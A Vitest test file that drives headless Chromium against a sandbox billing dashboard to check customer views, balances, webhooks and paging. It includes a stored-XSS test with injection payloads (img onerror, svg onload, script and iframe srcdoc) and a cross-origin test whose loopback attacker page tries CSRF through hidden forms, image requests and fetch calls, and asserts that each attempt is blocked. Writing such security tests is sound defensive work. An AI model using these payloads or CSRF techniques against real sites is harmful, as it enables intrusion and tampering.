import { existsSync, mkdtempSync, rmSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Chromium } from "../scripts/runtimes/cdp.js";
import { chromiumPath } from "../scripts/runtimes/pins.js";
import { AutumnCore } from "../src/core.js";
import { balancesTrack } from "../src/funcs/balances-track.js";
import { customersGetOrCreate } from "../src/funcs/customers-get-or-create.js";
import { customersUpdate } from "../src/funcs/customers-update.js";
import { entitiesCreate } from "../src/funcs/entities-create.js";
import { billingAttach } from "../src/funcs/billing-attach.js";
import { type Sandbox, startSandbox } from "../src/sandbox/server.js";
import { realPause } from "./clock.js";
import { CHROMIUM_FLAGS, fill } from "./dashboard-helpers.js";

/**
 * The dashboard in a real browser: Debian's headless Chromium, driven over the DevTools protocol
 * (scripts/runtimes/cdp.ts), against a sandbox the SDK drives. Every assertion reads the page's DOM. CI
 * installs Chromium before the tests (`npm run runtimes:install` in .ci/run), so there a missing browser
 * fails this file; elsewhere the file is skipped without one (`apt-get install chromium` brings it).
 * Nothing here is timed: each step waits for the DOM it expects, within a budget far above what it takes.
 */

const hasChromium = existsSync(chromiumPath);
if (!hasChromium && process.env["CI"]) throw new Error(`${chromiumPath} is missing: CI installs it with npm run runtimes:install`);

const STEP_MS = 30_000;
const DAY = 86_400_000;
const FEATURES = [{ featureId: "messages", name: "Messages", type: "metered", consumable: true }];

/** A browser tab on one page: what it evaluates, what it waits for, and everything that went wrong in it. */
class Tab {
  readonly problems: string[] = [];
  readonly dialogs: string[] = [];
  /**
   * Each answer the tab's requests got: method, URL and the status the server sent, also for an answer the
   * browser then kept from the page (a cross-origin resource policy, a frame refused); 0 for no answer.
   */
  readonly responses: { method: string; url: string; status: number }[] = [];
  readonly #requests = new Map<string, { method: string; url: string }>();
  readonly #statuses = new Map<string, number>();

  private constructor(
    readonly browser: Chromium,
    readonly target: string,
    readonly session: string,
  ) {
    browser.on(({ method, params, sessionId }) => {
      if (sessionId !== session || !params) return;
      if (method === "Page.javascriptDialogOpening") {
        this.dialogs.push(String(params["message"]));
        void browser.send("Page.handleJavaScriptDialog", { accept: false }, session).catch(() => {});
      } else if (method === "Runtime.exceptionThrown") {
        this.problems.push(params["exceptionDetails"]?.exception?.description ?? params["exceptionDetails"]?.text);
      } else if (method === "Log.entryAdded" && params["entry"].level === "error") {
        this.problems.push(`${params["entry"].text} ${params["entry"].url ?? ""}`);
      } else if (method === "Network.requestWillBeSent") {
        this.#requests.set(params["requestId"], { method: params["request"].method, url: params["request"].url });
      } else if (method === "Network.responseReceivedExtraInfo") {
        this.#statuses.set(params["requestId"], params["statusCode"]);
      } else if (method === "Network.responseReceived") {
        const request = this.#requests.get(params["requestId"]);
        this.responses.push({ method: request?.method ?? "?", url: params["response"].url, status: params["response"].status });
      } else if (method === "Network.loadingFailed") {
        const request = this.#requests.get(params["requestId"]);
        // The raw answer's status may come after the failure: read it when it is asked for.
        const statuses = this.#statuses;
        const id = params["requestId"];
        if (request) this.responses.push({ ...request, get status() { return statuses.get(id) ?? 0; } });
      }
    });
  }

  static async open(browser: Chromium, url: string): Promise<Tab> {
    const { targetId } = await browser.send("Target.createTarget", { url: "about:blank" });
    const { sessionId } = await browser.send("Target.attachToTarget", { targetId, flatten: true });
    const tab = new Tab(browser, targetId, sessionId);
    for (const domain of ["Page", "Runtime", "Log", "Network"]) await browser.send(`${domain}.enable`, {}, tab.session);
    await browser.send("Page.navigate", { url }, tab.session);
    return tab;
  }

  evaluate<T>(expression: string): Promise<T> {
    return this.browser.evaluate<T>(this.session, expression);
  }

  /** Waits until `expression` is truthy in the page and returns its value; fails with what the page shows otherwise. */
  async until<T>(expression: string, what: string): Promise<T> {
    const deadline = Date.now() + STEP_MS;
    let last: unknown;
    while (Date.now() < deadline) {
      // Between two documents the page cannot be asked: ask again.
      last = await this.evaluate<T>(expression).catch((error: Error) => `(${error.message})`);
      if (last && !(typeof last === "string" && last.startsWith("("))) return last as T;
      await realPause(50);
    }
    const text = await this.evaluate<string>("document.body ? document.body.innerText.slice(0, 1500) : ''").catch(() => "");
    throw new Error(`${what}: not seen within ${STEP_MS / 1000} s (last ${JSON.stringify(last)}); problems: ${this.problems.join("; ") || "none"}; the page shows:\n${text}`);
  }

  /** Clicks the element `selector` finds, once the page has drawn it. */
  click(selector: string): Promise<unknown> {
    return this.until(`(() => { const node = document.querySelector(${JSON.stringify(selector)}); if (!node) return false; node.click(); return true; })()`, `something to click at ${selector}`);
  }

  close(): Promise<unknown> {
    return this.browser.send("Target.closeTarget", { targetId: this.target });
  }
}

/** A loopback server answering with `handler`, closed after the file. */
async function serve(handler: Parameters<typeof createServer>[1], servers: Server[]): Promise<string> {
  const server = createServer(handler);
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  servers.push(server);
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

// Each test is a dozen steps of up to STEP_MS each, on a machine that may be busy: the file's own limit, not the suite's minute.
describe.skipIf(!hasChromium)("the dashboard in headless Chromium", { timeout: 10 * STEP_MS }, () => {
  let browser: Chromium;
  let profile: string;
  const servers: Server[] = [];
  const sandboxes: Sandbox[] = [];
  let webhooksReceived = 0;
  let receiverURL: string;

  beforeAll(async () => {
    profile = mkdtempSync(`${tmpdir()}/autumn-dashboard-chromium-`);
    browser = new Chromium(profile, CHROMIUM_FLAGS);
    receiverURL = await serve((request, response) => {
      webhooksReceived++;
      request.resume();
      response.end();
    }, servers);
  });
  afterAll(async () => {
    browser?.close();
    await Promise.all(sandboxes.map((sandbox) => sandbox.close()));
    await Promise.all(servers.map((server) => new Promise((resolve) => server.close(resolve))));
    rmSync(profile, { recursive: true, force: true });
  });

  async function sandboxWith(options: Parameters<typeof startSandbox>[0]): Promise<{ sandbox: Sandbox; core: AutumnCore }> {
    const sandbox = await startSandbox(options);
    sandboxes.push(sandbox);
    return { sandbox, core: new AutumnCore({ secretKey: sandbox.secretKey, serverURL: sandbox.url }) };
  }

  it("shows the customer, moves its balance bar after a track, shows the webhook, and a clock button resets the balance", async () => {
    const daily = { planId: "free", name: "Free", autoEnable: true, items: [{ featureId: "messages", included: 10, reset: { interval: "day" } }] };
    const { sandbox, core } = await sandboxWith({ catalog: { features: FEATURES, plans: [daily] }, webhookURL: `${receiverURL}/hooks` });
    await customersGetOrCreate(core, { customerId: "ada", name: "Ada Lovelace", email: "ada@example.com" });
    const tab = await Tab.open(browser, `${sandbox.url}/`);

    expect(await tab.until<string>(`document.querySelector('tr[data-key="ada"]')?.innerText`, "the customer in the list")).toContain("Ada Lovelace");
    await tab.click('tr[data-key="ada"] a');
    const bar = `document.querySelector('.customer .balance[data-feature="messages"]')`;
    await tab.until(`${bar}?.dataset.usage === "0" && ${bar}.dataset.granted === "10"`, "the messages balance at 0 of 10");

    // The page is not reloaded: the live poll sees the track.
    await balancesTrack(core, { customerId: "ada", featureId: "messages", value: 3 });
    await tab.until(`${bar}?.dataset.usage === "3"`, "the balance at 3 after the track");
    expect(await tab.evaluate(`${bar}.querySelector(".fill").style.width`)).toBe("30%");
    expect(await tab.evaluate(`${bar}.innerText`)).toMatch(/3 \/ 10 used[\s\S]*7 left[\s\S]*resets in/);
    await tab.until(`document.querySelector('.customer .events tbody tr')?.innerText.includes("messages")`, "the event in the latest events");
    await tab.until(`document.querySelectorAll('.chart rect').length > 0`, "a bar in the usage chart");

    // The rest of the balance: Autumn sends balances.limit_reached, and the page shows its delivery.
    await balancesTrack(core, { customerId: "ada", featureId: "messages", value: 7 });
    await sandbox.webhooks.idle();
    await tab.until(`document.querySelector('.customer .delivery[data-type="balances.limit_reached"][data-status="delivered"]')`, "the limit_reached delivery, delivered");
    await tab.click('[data-nav="webhooks"]');
    await tab.until(`document.querySelectorAll('.view .delivery[data-status="delivered"]').length === 2`, "both deliveries on the webhooks page");

    // A day on, by the button: the daily balance has reset.
    const before = sandbox.now();
    await tab.click('[data-nav="customers"]');
    await tab.click('tr[data-key="ada"] a');
    await tab.until(`${bar}?.dataset.usage === "10"`, "the balance spent");
    await tab.click('[data-advance="day"]');
    await tab.until(`${bar}?.dataset.usage === "0"`, "the balance reset after a day");
    expect(sandbox.now() - before).toBeGreaterThanOrEqual(DAY);
    const shown = await tab.evaluate<number>(`Number(document.getElementById("clock-now").dataset.now)`);
    expect(shown).toBeGreaterThanOrEqual(before + DAY);

    // Resend from the page: the same delivery gets a second attempt.
    const delivery = sandbox.webhooks.deliveries.find((candidate) => candidate.type === "balances.limit_reached")!;
    const received = webhooksReceived;
    await tab.click('[data-nav="webhooks"]');
    await tab.until(`document.querySelector('.delivery[data-id="${delivery.id}"] summary')`, "the delivery on the webhooks page");
    await tab.click(`.delivery[data-id="${delivery.id}"] summary`);
    await tab.click(`.delivery[data-id="${delivery.id}"] button.resend`);
    await tab.until(`document.querySelector('.delivery[data-id="${delivery.id}"]')?.innerText.includes("attempts: 200, 200")`, "the second attempt");
    expect(delivery.attempts).toEqual([200, 200]);
    expect(webhooksReceived).toBe(received + 1);

    // Reset takes two clicks; then the list is empty.
    await tab.click('[data-nav="customers"]');
    await tab.click("#reset");
    expect(sandbox.state.customers.size).toBe(1);
    await tab.click("#reset");
    await tab.until(`document.querySelector('.results .empty')?.innerText.startsWith("No customers yet")`, "the empty list after the reset");
    expect(sandbox.state.customers.size).toBe(0);
    expect([tab.problems, tab.dialogs]).toEqual([[], []]);
    await tab.close();
  });

  it("shows hostile names, metadata, properties and plan names as text: no script runs, no element is injected", async () => {
    const hostile = [`<img src=x onerror="window.__pwned=1;alert('img')">`, `"><svg onload=alert('svg')>`, `</td><script>alert('script')</script>`, `<iframe srcdoc="<script>alert(1)</script>">`];
    const [img, svg, script, frame] = hostile as [string, string, string, string];
    const catalog = {
      features: [{ ...FEATURES[0], name: img }, { featureId: "seats", name: svg, type: "metered", consumable: false }],
      plans: [
        { planId: "free", name: svg, description: script, autoEnable: true, items: [{ featureId: "messages", included: 10, reset: { interval: "month" } }, { featureId: "seats", included: 3 }] },
      ],
    };
    const { sandbox, core } = await sandboxWith({ catalog, webhookURL: `${receiverURL}/hooks` });
    await customersGetOrCreate(core, { customerId: "mallory", name: img, metadata: { [svg]: script, note: frame, [img]: { nested: svg } } });
    await customersUpdate(core, { customerId: "mallory", billingControls: { usageAlerts: [{ threshold: 1, thresholdType: "usage", name: script }] } });
    await entitiesCreate(core, { customerId: "mallory", entityId: "e1", featureId: "seats", name: frame });
    await balancesTrack(core, { customerId: "mallory", featureId: "messages", value: 2, properties: { [script]: img, model: svg } });
    await sandbox.webhooks.idle();
    expect(sandbox.webhooks.deliveries.some((delivery) => delivery.body.includes("alert('script')"))).toBe(true);

    const tab = await Tab.open(browser, `${sandbox.url}/#/customers?q=${encodeURIComponent("<img")}`);
    const clean = async (where: string) => {
      await tab.evaluate(`document.querySelectorAll("details").forEach((details) => { details.open = true; })`);
      const found = await tab.evaluate<Record<string, unknown>>(`({
        injected: [...document.querySelectorAll("img, iframe, object, embed, script:not([src='/_dashboard/app.js']), svg:not(.chart)")].map((node) => node.outerHTML.slice(0, 80)),
        handlers: [...document.querySelectorAll("*")].flatMap((node) => [...node.attributes].filter((attribute) => /^on/i.test(attribute.name)).map((attribute) => node.tagName + " " + attribute.name)),
        pwned: window.__pwned === undefined ? null : window.__pwned,
      })`);
      expect(found, where).toEqual({ injected: [], handlers: [], pwned: null });
    };
    const text = () => tab.evaluate<string>("document.body.innerText");

    expect(await tab.until<string>(`document.querySelector('tr[data-key="mallory"]')?.innerText`, "the customer found by a search for <img")).toContain(img);
    await clean("the customer list");
    await tab.click('tr[data-key="mallory"] a');
    await tab.until(`document.querySelector('.customer .events tbody tr') && document.querySelector('.customer [data-entity="e1"]') && document.querySelector('.customer .delivery')`, "the customer page, in full");
    const page = await text();
    for (const shown of [img, svg, script, frame, JSON.stringify({ nested: svg })]) expect(page).toContain(shown);
    await clean("the customer page");
    await tab.click('[data-nav="webhooks"]');
    await tab.until(`document.querySelector('.view .delivery[data-type="balances.usage_alert_triggered"]')`, "the usage alert's delivery");
    await clean("the webhooks page");
    expect(await text()).toContain(JSON.stringify(script).slice(1, -1));
    await tab.click('[data-nav="requests"]');
    await tab.until(`document.querySelector('.request[data-path="balances.track"]')`, "the track request");
    await clean("the requests page");
    await tab.click('[data-nav="catalog"]');
    await tab.until(`document.querySelector('.plan-card[data-plan="free"]')`, "the plan on the catalog page");
    await clean("the catalog page");
    expect(await text()).toContain(svg);
    expect([tab.problems, tab.dialogs]).toEqual([[], []]);
    await tab.close();
  });

  it("draws a page of 50 of 10,000 customers, and pages and searches on the server", async () => {
    const { sandbox } = await sandboxWith({});
    fill(sandbox.state, 10_000, 100_000);
    const tab = await Tab.open(browser, `${sandbox.url}/`);
    const rows = `[...document.querySelectorAll(".customers tbody tr")].map((row) => row.dataset.key)`;
    await tab.until(`document.querySelector(".pager span")?.innerText === "1–50 of 10,000"`, "the first page's count");
    expect(await tab.evaluate<string[]>(rows)).toEqual(Array.from({ length: 50 }, (_, index) => `user_${9999 - index}`));
    await tab.click(".pager button:last-child");
    await tab.until(`document.querySelector(".pager span")?.innerText === "51–100 of 10,000"`, "the second page");
    expect((await tab.evaluate<string[]>(rows))[0]).toBe("user_9949");
    await tab.evaluate(`(() => { const input = document.querySelector("input[type=search]"); input.value = "user_4242"; input.dispatchEvent(new Event("input")); })()`);
    await tab.until(`document.querySelector(".pager span")?.innerText === "1–1 of 1"`, "the one customer found");
    expect(await tab.evaluate<string[]>(rows)).toEqual(["user_4242"]);
    expect(await tab.evaluate<string>("location.hash")).toBe("#/customers?q=user_4242");
    await tab.click('tr[data-key="user_4242"] a');
    await tab.until(`document.querySelector(".customer .part-events .pager span")?.innerText.endsWith("of 10")`, "the customer's 10 events, 20 to a page");
    expect(await tab.evaluate<number>(`document.querySelectorAll(".customer .events tbody tr").length`)).toBe(10);
    expect([tab.problems, tab.dialogs]).toEqual([[], []]);
    await tab.close();
  });

  it("lets no page of another origin move the clock, reset, resend or read the dashboard", async () => {
    const { sandbox, core } = await sandboxWith({ webhookURL: `${receiverURL}/hooks` });
    await customersGetOrCreate(core, { customerId: "victim" });
    await billingAttach(core, { customerId: "victim", planId: "free" });
    await sandbox.webhooks.idle();
    const delivery = sandbox.webhooks.deliveries[0]!;
    const attempts = delivery.attempts.length;
    const received = webhooksReceived;
    const ahead = Math.round((sandbox.now() - Date.now()) / 1000);
    const api = `${sandbox.url}/_dashboard/api`;
    const targets = [`${api}/clock?advance=month`, `${api}/reset`, `${api}/resend?id=${delivery.id}`];

    // A page served from another loopback port: another origin, as any site the developer visits would be.
    const reports: string[] = [];
    const attacker = await serve((request, response) => {
      if (request.url === "/report") {
        let body = "";
        request.on("data", (chunk) => (body += chunk));
        request.on("end", () => {
          reports.push(body);
          response.end();
        });
        return;
      }
      const forms = targets
        .map((target, index) => `<form id="f${index}" method="POST" action="${target}" target="sink${index}" enctype="text/plain"><input name='{"advance":"month","x":"' value='"}'></form><iframe name="sink${index}"></iframe>`)
        .join("");
      const images = targets.map((target) => `<img src="${target}">`).join("");
      const html = `<!doctype html>${forms}${images}<iframe src="${sandbox.url}/"></iframe><script>
        const targets = ${JSON.stringify(targets)};
        const report = (line) => fetch("/report", { method: "POST", body: line });
        (async () => {
          for (const target of targets) {
            await fetch(target, { method: "POST", mode: "no-cors", body: "{}" }).then(() => report("no-cors sent"), (error) => report("no-cors failed: " + error));
            await fetch(target, { method: "POST", headers: { "x-autumn-dashboard-token": "guessed" } }).then((r) => report("with header: " + r.status), () => report("with header: blocked"));
          }
          for (const path of ["/", "/_dashboard/api/customers", "/_dashboard/api/summary"]) {
            await fetch(${JSON.stringify(sandbox.url)} + path).then((r) => r.text()).then((text) => report("read: " + text.slice(0, 40)), () => report("read: blocked"));
          }
          for (const form of document.forms) form.submit();
          setTimeout(() => report("done"), 500);
        })();
      </script>`;
      response.writeHead(200, { "content-type": "text/html" }).end(html);
    }, servers);
    const tab = await Tab.open(browser, `${attacker}/`);
    const deadline = Date.now() + STEP_MS;
    while (!reports.includes("done") && Date.now() < deadline) await realPause(50);
    expect(reports).toContain("done");
    // Wait for the forms' and images' answers, which the DevTools protocol reports as they come.
    const answered = () => targets.every((target) => ["GET", "POST"].every((method) => tab.responses.some((response) => response.url === target && response.method === method && response.status === 403)));
    while (!answered() && Date.now() < deadline) await realPause(50);
    expect(tab.responses.filter((response) => response.url.startsWith(api) && response.status !== 0 && response.status !== 403)).toEqual([]);
    expect(answered(), JSON.stringify(tab.responses)).toBe(true);
    expect(reports.filter((line) => line.startsWith("with header"))).toEqual(["with header: blocked", "with header: blocked", "with header: blocked"]);
    expect(reports.filter((line) => line.startsWith("read"))).toEqual(["read: blocked", "read: blocked", "read: blocked"]);

    expect(Math.round((sandbox.now() - Date.now()) / 1000)).toBe(ahead);
    expect([...sandbox.state.customers.keys()]).toEqual(["victim"]);
    expect(delivery.attempts.length).toBe(attempts);
    expect(webhooksReceived).toBe(received);
    await tab.close();
  });
});
